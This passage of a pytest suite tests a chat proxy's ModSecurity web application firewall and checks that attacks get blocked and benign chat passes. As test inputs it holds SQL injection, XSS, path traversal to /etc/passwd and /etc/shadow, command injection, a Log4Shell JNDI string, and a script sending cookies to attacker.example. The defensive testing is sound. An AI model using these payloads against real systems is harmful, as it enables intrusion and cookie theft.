    loaded says which Debian package to install (named on ``use``)."""
    with pytest.raises(FilterOptionError, match="holds no rule files"):
        build_filter(waf, {"crs": str(tmp_path)}, directory=ROOT)
    with pytest.raises(EngineMissing, match="apt-get install libmodsecurity3"):
        ModSecurity("libmodsecurity-not-there.so.3")

    def missing() -> ModSecurity:
        raise EngineMissing("ModSecurity is not installed: install Debian's libmodsecurity3 package")

    monkeypatch.setattr("chatproxy.filters.modsecurity.engine", missing)
    with pytest.raises(FilterOptionError) as info:
        build_filter(waf, {})
    assert info.value.option == "use" and "libmodsecurity3" in info.value.message


def test_crs_option_points_at_another_release(tmp_path):
    """``crs`` may name a CRS root (with rules/) or its rules directory: a copy of the
    package's rules works from either, a relative path from the configuration file's
    directory."""
    rules = tmp_path / "crs-copy" / "rules"
    rules.mkdir(parents=True)
    for path in Path(DEFAULT_CRS, "rules").iterdir():
        (rules / path.name).write_bytes(path.read_bytes())
    flt = Settled(build_filter(waf, {"crs": "crs-copy"}, directory=tmp_path))
    assert flt.crs.rules_dir == str(rules) and flt.request(make_head(q("' or 1=1--"))).status == 403
    assert build_filter(waf, {"crs": str(rules)}).crs.rules_dir == str(rules)


def test_config_errors_name_file_section_and_option(tmp_path):
    """Through the configuration loader and validate: the file, the section and the option."""
    path = tmp_path / "chat.ini"
    path.write_text("[listen:main]\nendpoint = tcp:8443\n[upstream:app]\nservers = http://127.0.0.1:1\n"
                    "[route:all]\npath = /\nupstream = app\nfilters = firewall\n"
                    "[filter:firewall]\nuse = waf\nexclude_rules = 942100 ARGS:message, 999999\n")
    with pytest.raises(ConfigError) as info:
        validate_config(path)
    assert str(info.value).startswith(f"{path} [filter:firewall] exclude_rules: unknown rule id 999999")


def validate_config(path: Path) -> Any:
    """load_config then validate, as every place that loads a configuration does."""
    return validate(load_config([str(path)]))


# ---------------------------------------------------------------------------
# The benign chat corpus: the false-positive guard


def profile_options(name: str, section: str) -> dict[str, str]:
    """The options of a vendor profile's waf section."""
    return measure.profile_options(str(ROOT / "etc" / name), section)


@pytest.mark.parametrize("profile, section", [("pega-chat.ini", "waf"), ("pega-client-channel.ini", "webhook-waf")])
def test_benign_chat_messages_pass_with_the_vendor_profiles(profile, section):
    """With a vendor profile's waf options (paranoia level and exclusions), at most 1 of
    the 718 benign chat lines sent as JSON chat messages is refused (the hand-written
    rule set's figure was 1, 0.1%)."""
    flt = measure.build(profile_options(profile, section))
    benign = measure.load_benign()
    refused = [line for line in benign if measure.blocked(flt, "ws", line)]
    assert len(benign) == 718 and len(refused) <= 1, refused


def test_corpus_files_parse():
    """The corpus loads: 760 attacks in five categories, 718 benign lines, escapes decoded."""
    attacks, benign = measure.load_attacks(), measure.load_benign()
    assert len(attacks) == 760 and len(benign) == 718
    assert ("protocol", "foo\r\nSet-Cookie: session=attacker") in attacks
    assert "Line one\r\nLine two" in benign


# ---------------------------------------------------------------------------
# Through a real twistd process


WAF_FILTER = "[filter:firewall]\nuse = waf\n"


def test_waf_through_twistd(proxy, upstream, tmp_path):
    """Through twistd: SQL injection in the query gets 403 with the short body and never
    reaches the upstream; XSS in a cookie likewise; a benign chat request reaches the
    upstream; the log has the waf line and the chain's refusal line; the JSON access log
    records the anomaly score and rule ids of the refused request; /metrics counts the
    refusals by filter, route and outcome and the matched rules."""
    port, admin = free_port(), free_port()
    access = tmp_path / "access.log"
    process = proxy.start(config(upstream.url, listen(port), "filters = firewall",
                                 WAF_FILTER + f"[admin]\nendpoint = tcp:{admin}:interface=127.0.0.1\n",
                                 f"access_log = {access}\naccess_log_format = json"), port=port)
    refused = send(port, "GET", "/prweb/PRChat/app/?pyActivity=x&q=" + quote("' or '1'='1' --", safe=""))
    assert refused.status == 403 and refused.body == BLOCKED.encode() + b"\n"
    cookie = send(port, "GET", "/echo/cookie", [("Cookie", "pref=%3Cscript%3Ealert(1)%3C%2Fscript%3E")])
    assert cookie.status == 403
    benign = "/echo/chat?pyActivity=pzMashupRequest&message=" + quote("Hi, I'd like to check order #4512 :)",
                                                                        safe="")
    ok = send(port, "GET", benign, [("User-Agent", "Mozilla/5.0 (X11; Linux x86_64)"), ("Accept", "*/*")])
    assert ok.status == 200
    assert [r["path"] for r in upstream.requests] == [benign]
    line = log_line(process, "waf: refused with 403")
    assert "for GET /prweb/PRChat/app/" in line and "942100 SQL Injection Attack Detected via libinjection" in line
    assert "filter firewall refused GET /prweb/PRChat/app/" in log_line(process, "filter firewall refused")
    records = [json.loads(text) for text in wait_for_lines(access, 3)]
    assert records[0]["status"] == 403 and records[0]["filters"]["firewall"].startswith("anomaly_score=")
    assert "942100" in records[0]["filters"]["firewall"] and "filters" not in records[2]
    wait_for_port(admin)
    with urllib.request.urlopen(f"http://127.0.0.1:{admin}/metrics", timeout=10) as response:
        metrics = response.read().decode()
    assert 'chatproxy_waf_inspections_total{filter="firewall",outcome="refused",route="all",what="request"} 2.0' \
        in metrics
    assert 'chatproxy_waf_rule_matches_total{filter="firewall",route="all",rule="942100"}' in metrics


def wait_for_lines(path: Path, count: int, timeout: float = 10.0) -> list[str]:
    """The first ``count`` lines of a file once it has them (bounded wait)."""
    deadline = time.monotonic() + timeout
    while True:
        lines = path.read_text().splitlines() if path.exists() else []
        if len(lines) >= count or time.monotonic() > deadline:
            return lines[:count]
        time.sleep(0.05)


def test_waf_request_bodies_through_twistd(proxy, upstream):
    """Through twistd with inspect_body_bytes = 1k: a form body with SQL injection and a
    JSON body with XSS get 403 and never reach the upstream; a broken JSON body gets 400;
    a benign JSON chat message and a benign 50 kB body (larger than the inspected part)
    reach it intact; an attack after the inspected first kilobyte is not seen
    (over_limit = pass, documented); a 64 KiB body inspected in the thread pool is
    refused when it carries an attack."""
    port = free_port()
    proxy.start(config(upstream.url, listen(port), "filters = firewall\n[route:big]\npath = /big\nupstream = app\n"
                       "filters = big", WAF_FILTER + "inspect_body_bytes = 1k\n[filter:big]\nuse = waf\n"), port=port)
    form = [("Content-Type", "application/x-www-form-urlencoded")]
    data = [("Content-Type", "application/json")]
    refused = send(port, "POST", "/echo/form", form, b"name=jane&msg=%27+union+select+password+from+users--")
    assert refused.status == 403 and refused.body == BLOCKED.encode() + b"\n"
    assert send(port, "POST", "/echo/json", data, b'{"text": "<svg onload=alert(1)>"}').status == 403
    assert send(port, "POST", "/echo/broken", data, b'{"text": "unterminated').status == 400
    chat = json.dumps({"type": "message", "text": "Hi, I'd like to return order #4512 -- it's too small"}).encode()
    ok = send(port, "POST", "/echo/chat", data, chat)
    assert ok.status == 200 and ok.json()["body_sha"] == hashlib.sha256(chat).hexdigest()
    big = json.dumps({"text": "fine " * 10000}).encode()
    ok = send(port, "POST", "/echo/big", data, big)
    assert ok.status == 200 and ok.json()["body_length"] == len(big)
    late = json.dumps({"pad": "x" * 2000, "text": "<script>alert(1)</script>"}).encode()
    assert send(port, "POST", "/echo/late", data, late).status == 200
    threaded = json.dumps({"pad": "x" * 60000, "text": "<script>alert(1)</script>"}).encode()
    assert send(port, "POST", "/big/attack", data, threaded).status == 403
    assert [r["path"] for r in upstream.requests] == ["/echo/chat", "/echo/big", "/echo/late"]


def test_waf_report_mode_through_twistd(proxy, upstream):
    """mode = report: a request with a traversal passes to the upstream and the twistd log
    says the filter would have refused it (and the waf line names the rules)."""
    port = free_port()
    process = proxy.start(config(upstream.url, listen(port), "filters = firewall",
                                 WAF_FILTER + "mode = report\n"), port=port)
    target = "/echo/reported?file=" + quote("../../../../etc/passwd", safe="")
    response = send(port, "GET", target)
    assert response.status == 200
    assert [r["path"] for r in upstream.requests] == [target]
    line = log_line(process, "would have refused")
    assert f"filter firewall (report mode) would have refused GET {target}" in line
    assert f"403 {BLOCKED}" in line
    assert "930120 OS File Access Attempt at ARGS:file" in log_line(process, "waf: refused with 403")


def test_waf_websocket_messages_through_twistd(proxy, ws_upstream):  # noqa: F811
    """Through twistd on a websocket = yes route: benign chat messages are echoed, a
    burst of them (inspected in the thread pool, one after the other) in the order sent;
    a message with XSS closes the session with 1008 and the reason instead of being
    relayed (no echo comes back)."""
    from websockets.exceptions import ConnectionClosed
    from websockets.sync.client import connect

    port = free_port()
    proxy.start(config(f"http://127.0.0.1:{ws_upstream.port}", listen(port), "websocket = yes\nfilters = firewall",
                       WAF_FILTER), port=port)
    with connect(f"ws://127.0.0.1:{port}/chat", open_timeout=10, close_timeout=5) as ws:
        hello = json.dumps({"type": "message", "text": "Bonjour, j'ai une question sur ma commande"})
        ws.send(hello)
        assert ws.recv(timeout=10) == hello
        burst = [json.dumps({"type": "message", "text": f"message {n}: " + "lorem ipsum " * n * 50}) for n in range(20)]
        for message in burst:
            ws.send(message)
        assert [ws.recv(timeout=10) for _ in burst] == burst
        ws.send(json.dumps({"type": "message", "text": "<img src=x onerror=alert(document.cookie)>"}))
        with pytest.raises(ConnectionClosed) as info:
            ws.recv(timeout=10)
    assert info.value.rcvd is not None
    assert (info.value.rcvd.code, info.value.rcvd.reason) == (1008, BLOCKED)


ATTACK_MESSAGES = [
    {"type": "message", "text": "1' UNION SELECT username, password FROM users--"},
    {"type": "message", "text": "; cat /etc/passwd"},
    {"type": "message", "text": "../../../../etc/shadow"},
    {"type": "message", "text": "${jndi:ldap://attacker.example/a}"},
    "<script>document.location='http://attacker.example/?c='+document.cookie</script>",
]


def test_waf_drops_attack_messages_through_twistd(proxy, ws_upstream):  # noqa: F811
    """Through twistd with refused_message = drop: WebSocket messages carrying SQL
    injection, command injection, traversal, Log4Shell (JSON chat messages) and XSS (a
    plain-text message) are each dropped, the chat messages between them are relayed in
    the order sent, and the session stays open."""
    from websockets.sync.client import connect

    port = free_port()
    proxy.start(config(f"http://127.0.0.1:{ws_upstream.port}", listen(port), "websocket = yes\nfilters = firewall",
                       WAF_FILTER + "refused_message = drop\n"), port=port)
    benign = [json.dumps({"type": "message", "text": f"Thanks, that was message {n}"}) for n in range(len(ATTACK_MESSAGES))]
    with connect(f"ws://127.0.0.1:{port}/chat", open_timeout=10, close_timeout=5) as ws:
        for attack, fine in zip(ATTACK_MESSAGES, benign):
            ws.send(attack if isinstance(attack, str) else json.dumps(attack))
            ws.send(fine)
        assert [ws.recv(timeout=10) for _ in benign] == benign
        ws.send(benign[0])
        assert ws.recv(timeout=10) == benign[0]


def test_the_chat_corpus_as_websocket_messages_gets_the_filters_verdicts(proxy, ws_upstream):  # noqa: F811
    """Every line of the chat corpus (760 attacks, 718 benign lines), sent as a JSON chat
    message over one WebSocket session through twistd (refused_message = drop), is relayed
    exactly when the filter object, given the same handshake headers, passes it: the
    relayed messages are the passing ones, in the order sent."""
    from websockets.sync.client import connect

    port = free_port()
    proxy.start(config(f"http://127.0.0.1:{ws_upstream.port}", listen(port), "websocket = yes\nfilters = firewall",
                       WAF_FILTER + "refused_message = drop\n"), port=port)
    agent = BROWSER[0][1]
    session = websocket_head("/chat", headers=[("Host", f"127.0.0.1:{port}"), ("User-Agent", agent)], route="all")
    expected_filter = build({})
    messages = [measure.message_of(line).decode() for line in
                [text for _, text in measure.load_attacks()] + measure.load_benign()]
    passing = [m for m in messages if expected_filter.message(session, m.encode(), False, True) is None]
    assert 0 < len(passing) < len(messages)
    sentinel = json.dumps({"type": "message", "text": "that is all, thanks"})
    assert expected_filter.message(session, sentinel.encode(), False, True) is None
    relayed = []
    with connect(f"ws://127.0.0.1:{port}/chat", open_timeout=10, close_timeout=5, user_agent_header=agent,
                 max_size=None) as ws:
        for message in messages:
            ws.send(message)
        ws.send(sentinel)
        while len(relayed) <= len(messages):
            echoed = ws.recv(timeout=30)
            if echoed == sentinel:
                break
            relayed.append(echoed)
    assert relayed == passing


def test_waf_responses_through_twistd(proxy, upstream, tmp_path):
    """Through twistd with inspect_responses = yes and inspect_response_bytes = 16k: a page
    leaking a MySQL error gets 403 (plain or chunked), and the leak never reaches the client;
    a JSON response (not an inspected type) and an ordinary page pass; a 1 MB page is held
    for its first 16 KiB then streamed whole (a leak past them is not seen); an upstream
    that cuts its page short gets the client a 502; the access log records the outbound
    score and rule ids, /metrics counts the responses; the proxy holds no more file
    descriptors afterwards than before."""
    port, admin = free_port(), free_port()
    access = tmp_path / "access.log"
    process = proxy.start(config(upstream.url, listen(port), "filters = firewall",
                                 WAF_FILTER + "inspect_responses = yes\ninspect_response_bytes = 16k\n"
                                 f"[admin]\nendpoint = tcp:{admin}:interface=127.0.0.1\n",
                                 f"access_log = {access}\naccess_log_format = json"), port=port)
    pid = process.process.pid
    send(port, "GET", "/page?text=warm")
    before = len(os.listdir(f"/proc/{pid}/fd"))
    for target in ("/page?leak=sql", "/page?leak=sql&chunked=1", "/page?leak=sql&pad=9000&chunked=1"):
        refused = send(port, "GET", target)
        assert refused.status == 403 and refused.body == RESPONSE_BLOCKED.encode() + b"\n", target
    assert send(port, "GET", "/page?leak=sql&type=application/json").body.startswith(b"<p>You have an error")
    assert send(port, "GET", "/page?text=" + quote("<p>Hi Jane, an agent will join you shortly.</p>")).status == 200
    big = send(port, "GET", "/page?leak=sql&pad=1000000&chunked=1")
    assert big.status == 200 and len(big.body) == 1000000 + len(SQL_ERROR_PAGE)
    assert send(port, "GET", "/page?pad=100&cut=1").status == 502
    records = [json.loads(text) for text in wait_for_lines(access, 8)]
    assert [r["status"] for r in records[1:]] == [403, 403, 403, 200, 200, 200, 502]
    assert records[1]["filters"]["firewall"].startswith("outbound_anomaly_score=5 rules=951230,959100")
    line = log_line(process, "waf: refused with 403")
    assert "outbound anomaly score 5, threshold 4" in line and "951230 mysql SQL Information Leakage" in line
    wait_for_port(admin)
    with urllib.request.urlopen(f"http://127.0.0.1:{admin}/metrics", timeout=10) as response:
        metrics = response.read().decode()
    assert 'chatproxy_waf_inspections_total{filter="firewall",outcome="refused",route="all",what="response"} 3.0' \
        in metrics
    deadline = time.monotonic() + 10
    while len(os.listdir(f"/proc/{pid}/fd")) > before and time.monotonic() < deadline:
        time.sleep(0.1)
    assert len(os.listdir(f"/proc/{pid}/fd")) <= before
